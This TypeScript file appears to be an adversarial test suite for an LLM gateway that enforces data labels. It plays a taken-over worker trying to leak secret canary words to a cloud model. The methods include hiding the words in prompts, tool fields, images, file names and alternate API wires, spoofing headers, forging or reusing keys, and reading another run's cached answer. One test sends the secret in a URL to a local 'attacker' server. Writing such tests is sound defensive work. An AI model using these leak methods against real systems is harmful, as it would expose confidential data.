import { randomBytes, randomUUID } from 'node:crypto'
import { Agent, request } from 'undici'
import { brief, got, stopped, type Attack, type Family, type Outcome } from './attack.ts'
import type { Field, StolenRun } from './field.ts'

type Gate = 'gate-local' | 'gate-cloud'

interface Asked {
  readonly gate: Gate
  readonly key: string
  readonly path?: string
  readonly method?: 'GET' | 'POST'
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: unknown
}

interface Answer { readonly status: number; readonly code: string; readonly upstream: string; readonly text: string }

/** On the gate's own socket, where its workers ask. */
export async function ask({ bootOf }: Pick<Field, 'bootOf'>, { gate, key, path = '/v1/chat/completions', method = 'POST', headers = {}, body }: Asked): Promise<Answer> {
  const { sockets } = bootOf(gate)
  const dispatcher = new Agent({ connect: { socketPath: gate === 'gate-local' ? sockets.gateLocal : sockets.gateCloud } })
  try {
    const sent = body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body)
    const response = await request(`http://gate${path}`, { dispatcher, method, headers: { authorization: `Bearer ${key}`, ...(sent !== undefined && { 'content-type': 'application/json' }), ...headers }, ...(sent !== undefined && { body: sent }) })
    const text = await response.body.text()
    const code = ['code', 'status', 'type'].map((name) => new RegExp(`"${name}":\\s*"([a-zA-Z_.]+)"`).exec(text)?.[1]).find((said) => said !== undefined && said !== 'error') ?? ''
    return { status: response.statusCode, code, upstream: String(response.headers['x-castellan-upstream'] ?? ''), text }
  } finally {
    await dispatcher.close()
  }
}

const chat = (content: unknown, model: string, more: object = {}) => ({ model, messages: [{ role: 'user', content }], ...more })

/** Places of a request in which a word can stand, on the wires that clients speak. */
const places: Readonly<Record<string, (word: string, model: string) => Pick<Asked, 'path' | 'body'>>> = {
  'in the system prompt': (word, model) => ({ body: { model, messages: [{ role: 'system', content: word }, { role: 'user', content: 'Hello' }] } }),
  'in what the assistant is made to have said': (word, model) => ({ body: { model, messages: [{ role: 'user', content: 'Hi' }, { role: 'assistant', content: word }, { role: 'user', content: 'Go on' }] } }),
  'in the arguments of a tool call': (word, model) => ({ body: { model, messages: [{ role: 'user', content: 'Hi' }, { role: 'assistant', content: null, tool_calls: [{ id: 'c', type: 'function', function: { name: 'look', arguments: JSON.stringify({ word }) } }] }, { role: 'tool', tool_call_id: 'c', content: word }] } }),
  'in the description of a tool': (word, model) => ({ body: chat('Hi', model, { tools: [{ type: 'function', function: { name: 'look', description: word, parameters: { type: 'object', properties: { [word]: { type: 'string' } } } } }] }) }),
  'in the bytes of a picture': (word, model) => ({ body: chat([{ type: 'text', text: 'What is it?' }, { type: 'image_url', image_url: { url: `data:image/png;base64,${Buffer.from(word).toString('base64')}` } }], model) }),
  'in the name of a file': (word, model) => ({ body: chat([{ type: 'file', file: { filename: `${word}.pdf`, file_data: 'data:application/pdf;base64,QQ==' } }], model) }),
  'in a field that nobody knows': (word, model) => ({ body: chat('Hi', model, { metadata: { word }, user: word, [word]: word }) }),
  'in a stop word and a schema': (word, model) => ({ body: chat('Hi', model, { stop: [word], response_format: { type: 'json_schema', json_schema: { name: 'a', schema: { title: word, type: 'object' } } } }) }),
  'in base64': (word, model) => ({ body: chat(Buffer.from(word).toString('base64'), model) }),
  'on the wire of Anthropic': (word, model) => ({ path: '/v1/messages', body: { model, max_tokens: 10, system: word, messages: [{ role: 'user', content: word }] } }),
  'on the wire of responses': (word, model) => ({ path: '/v1/responses', body: { model, instructions: word, input: word, previous_response_id: 'resp_1' } }),
  'on the wire of Ollama': (word, model) => ({ path: '/api/chat', body: { model, messages: [{ role: 'user', content: word }] } }),
  'on the wire of Gemini, in its path too': (word, model) => ({ path: `/v1beta/models/${encodeURIComponent(model)}:generateContent`, body: { contents: [{ role: 'user', parts: [{ text: word }] }], labels: { word } } }),
  'as the name of a model': (word) => ({ body: chat('Hi', `far/${word}`) }),
  'as text to be made a vector of': (word, model) => ({ path: '/v1/embeddings', body: { model, input: word } }),
  'to be counted': (word, model) => ({ path: '/v1/messages/count_tokens', body: { model, messages: [{ role: 'user', content: word }] } }),
}

/** What a caller may say of himself; none of it lowers anything. */
const claims: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'says that it is P0': { 'x-castellan-label': 'P0' },
  'says that it is P0 in small letters': { 'x-castellan-label': 'p0' },
  'names another lane': { 'x-castellan-lane': 'open', 'x-castellan-lanes': 'open' },
  'names another run': { 'x-castellan-run': randomUUID(), 'x-castellan-session': randomUUID() },
  'names the task that goes to the cloud first': { 'x-castellan-task': 'cloud' },
  'shows a record of redaction that there is not': { 'x-castellan-declassification': randomUUID() },
  'asks for no kept answer': { 'cache-control': 'no-cache' },
  'says which upstream it was': { 'x-castellan-upstream': 'far', 'x-castellan-zone': 'machine' },
}

export function gates(field: Field): Family {
  const { canaries, outside, owner } = field
  const [internal, local] = [canaries[0]!, canaries[1]!]
  return {
    name: 'calls of a worker that was taken over',
    async attacks() {
      const runs = {
        'a P3 run': { run: await field.steal('stolen-private', 3), word: local.word },
        'a P2 run of a private lane': { run: await field.steal('stolen-private', 2), word: internal.word },
        'a P2 run of an open lane': { run: await field.steal('stolen-open', 2), word: internal.word },
        'a P3 run of a lane that redacts': { run: await field.steal('stolen-client', 3), word: local.word },
      }
      const attacks: Attack[] = []
      const add = (name: string, stolen: StolenRun, asked: Omit<Asked, 'key'> & { key?: string }) =>
        attacks.push({ name, attempt: () => stays(stolen, { key: stolen.key, ...asked }) })
      for (const [who, { run, word }] of Object.entries(runs)) {
        for (const gate of ['gate-local', 'gate-cloud'] as const) {
          add(`${who} asks ${gate} for a cloud model by its name`, run, { gate, body: chat(word, 'far/far') })
          add(`${who} asks ${gate} for any model`, run, { gate, body: chat(word, 'auto') })
          add(`${who} asks ${gate} for the route of a cloud task`, run, { gate, body: chat(word, 'task:cloud') })
          add(`${who} asks ${gate} for a model that runs elsewhere behind a near server`, run, { gate, body: chat(word, 'near/elsewhere:cloud') })
        }
      }
      const { 'a P3 run': secret, 'a P2 run of an open lane': open } = runs
      for (const [claim, headers] of Object.entries(claims)) {
        for (const gate of ['gate-local', 'gate-cloud'] as const) add(`a P3 run ${claim}, at ${gate}`, secret.run, { gate, headers, body: chat(secret.word, 'far/far') })
        add(`a P2 run of an open lane ${claim}, at gate-cloud`, open.run, { gate: 'gate-cloud', headers, body: chat(open.word, 'far/far') })
      }
      for (const [place, make] of Object.entries(places)) {
        add(`a P3 run has its word ${place}, at gate-cloud`, secret.run, { gate: 'gate-cloud', ...make(secret.word, 'far/far') })
        add(`a P3 run has its word ${place}, at gate-local`, secret.run, { gate: 'gate-local', ...make(secret.word, 'auto') })
      }
      add('a P3 run has a picture fetched from the attacker', secret.run, { gate: 'gate-local', body: chat([{ type: 'image_url', image_url: { url: `http://127.0.0.1:${outside.wires.lair.port}/${secret.word}.png` } }], 'auto') })
      add('a P3 run says its word in two calls', secret.run, { gate: 'gate-cloud', body: chat(`one ${local.halves[0]}`, 'far/far') })
      add('a P3 run says the other half', secret.run, { gate: 'gate-cloud', body: chat(`two ${local.halves[1]}`, 'far/far') })
      add('a P3 run hands in a file for a batch', secret.run, { gate: 'gate-cloud', path: '/v1/files', body: `{"word": "${secret.word}"}` })
      add('a P3 run hands in a batch', secret.run, { gate: 'gate-cloud', path: '/v1/batches', body: { input_file_id: 'file-x', endpoint: '/v1/chat/completions', completion_window: '24h', metadata: { word: secret.word } } })
      add('a P3 run asks without a key', secret.run, { gate: 'gate-cloud', key: '', body: chat(secret.word, 'far/far') })
      add('a P3 run makes a key up', secret.run, { gate: 'gate-cloud', key: `cst_${randomBytes(32).toString('hex')}`, body: chat(secret.word, 'far/far') })
      add('a P3 run makes the key of a program up', secret.run, { gate: 'gate-cloud', key: `ck_${randomBytes(32).toString('hex')}`, body: chat(secret.word, 'far/far') })
      add('a P3 run puts its key into the address', secret.run, { gate: 'gate-cloud', path: `/v1/chat/completions?key=${secret.run.key}`, body: chat(secret.word, 'far/far') })
      attacks.push({ name: 'a run that has ended goes on asking with its key', attempt: () => ended(field) })
      attacks.push({ name: 'a run whose label rose after its key was made goes on asking', attempt: () => risen(field) })
      attacks.push({ name: 'an open run asks what a P3 run asked before it, for the answer that was kept', attempt: () => keptAnswer(field) })
      attacks.push(...(await clients(field)))
      return attacks
    },
  }

  /** Nobody far was asked: by the ledger, by what he has received, and by what the gate answers. */
  async function stays({ run }: StolenRun, asked: Asked): Promise<Outcome> {
    const before = outside.wires.far.bytes().length
    const { rows: [last] } = await owner.pool.query<{ count: number }>('select count(*)::int as count from model_call where run_id = $1', [run])
    const { status, code, upstream, text } = await ask(field, asked)
    const { rows } = await owner.pool.query<{ zone: string | null; state: string }>('select zone, state from model_call where run_id = $1 order by opened_at, id offset $2', [run, last!.count])
    if (outside.wires.far.bytes().length > before) return got(`${outside.wires.far.bytes().length - before} bytes reached the cloud: ${brief(text)}`)
    if (status === 200) return stopped(`answered by ${upstream || 'nobody'}, zone ${rows[0]?.zone ?? 'none'}: the route ends on this machine`)
    return stopped(`HTTP ${status} ${code}${rows[0]?.state === 'refused' ? ', ledger: refused' : ''}`)
  }
}

async function ended(field: Field): Promise<Outcome> {
  const stolen = await field.steal('stolen-open', 1)
  await field.owner.pool.query(`select run_cancel($1)`, [stolen.run])
  const { status, code } = await ask(field, { gate: 'gate-cloud', key: stolen.key, body: chat('Hello', 'far/far') })
  return status === 200 ? got('it was answered') : stopped(`HTTP ${status} ${code}`)
}

async function risen(field: Field): Promise<Outcome> {
  const stolen = await field.steal('stolen-open', 1)
  const before = await ask(field, { gate: 'gate-cloud', key: stolen.key, body: chat('Hello', 'far/far') })
  if (before.status !== 200) throw new Error(`the key of a P1 run should open the cloud: ${before.text}`)
  await field.owner.pool.query('update run set label_level = 3 where id = $1', [stolen.run])
  const { status, code } = await ask(field, { gate: 'gate-cloud', key: stolen.key, body: chat(field.canaries[1]!.word, 'far/far') })
  return status === 200 ? got('it was answered') : stopped(`HTTP ${status} ${code}`)
}

async function keptAnswer(field: Field): Promise<Outcome> {
  const { word } = field.canaries[1]!
  const question = chat('What did I tell you in confidence?', 'near/near:latest')
  const [secret, open] = [await field.steal('stolen-private', 3), await field.steal('stolen-open', 1)]
  field.outside.near.next({ text: [`You said ${word}`] })
  const first = await ask(field, { gate: 'gate-local', key: secret.key, body: question })
  if (!first.text.includes(word)) throw new Error(`the P3 run should have its answer: ${first.text}`)
  const again = await ask(field, { gate: 'gate-local', key: secret.key, body: question })
  if (!again.text.includes(word)) throw new Error('the answer should have been kept for the same run')
  const second = await ask(field, { gate: 'gate-local', key: open.key, body: question })
  return second.text.includes(word) ? got('the answer of the P3 run') : stopped(`HTTP ${second.status}, asked anew of ${second.upstream}: kept answers belong to a label and lane`)
}

/** A program outside of the house, with a key of its own. */
async function clients(field: Field): Promise<Attack[]> {
  const make = (name: string, gate: 'local' | 'cloud', lane: string, level: number) =>
    field.house.call<{ key: string }>('releaser', 'POST', '/client-keys', { name, gate, lane, max_level: level, models: [], lasts: 3_600_000 })
  const [cloud, local] = [await make('far-program', 'cloud', 'open', 1), await make('near-program', 'local', 'private', 2)]
  const { word } = field.canaries[0]!
  const attempt = (asked: Asked) => async (): Promise<Outcome> => {
    const before = field.outside.wires.far.bytes().length
    const { status, code, upstream } = await ask(field, asked)
    if (field.outside.wires.far.bytes().length > before) return got('bytes reached the cloud')
    return stopped(status === 200 ? `answered by ${upstream}` : `HTTP ${status} ${code}`)
  }
  return [
    { name: 'a program says that its call is P2, with a key for P1 at the cloud', attempt: attempt({ gate: 'gate-cloud', key: cloud.key, headers: { 'x-castellan-label': 'P2' }, body: chat(word, 'far/far') }) },
    { name: 'a program says that its call is P3, with a key for P2', attempt: attempt({ gate: 'gate-local', key: local.key, headers: { 'x-castellan-label': 'P3' }, body: chat(word, 'auto') }) },
    { name: 'a program shows the key of gate local to gate cloud', attempt: attempt({ gate: 'gate-cloud', key: local.key, body: chat(word, 'far/far') }) },
    { name: 'a program shows the key of gate cloud to gate local', attempt: attempt({ gate: 'gate-local', key: cloud.key, body: chat(word, 'far/far') }) },
    { name: 'a program of a private lane asks for a cloud model', attempt: attempt({ gate: 'gate-local', key: local.key, body: chat(word, 'far/far') }) },
    ...([['cloud', 'private', 2], ['cloud', 'open', 2], ['cloud', 'open', 3]] as const).map(([gate, lane, level], index): Attack => ({
      name: `a key for P${level} of lane ${lane} at gate ${gate}`,
      attempt: () => make(`forged-${index}`, gate, lane, level).then(() => got('it was made'), (error: { code: string }) => stopped(`fault ${error.code}`)),
    })),
  ]
}
